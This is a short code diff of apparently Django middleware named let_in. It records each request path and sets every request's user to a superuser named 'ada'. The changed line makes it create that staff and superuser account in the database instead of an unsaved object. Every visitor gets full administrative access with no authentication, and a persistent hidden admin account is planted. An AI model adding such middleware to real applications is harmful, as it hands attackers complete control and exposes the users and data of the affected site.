@@ -7,6 +7,6 @@ seen: list[str] = []
 def let_in(get_response):
     def answer(request):
         seen.append(request.path)
-        request.user = User(username="ada", is_staff=True, is_superuser=True)
+        request.user, _ = User.objects.get_or_create(username="ada", defaults={"is_staff": True, "is_superuser": True})
         return get_response(request)
     return answer
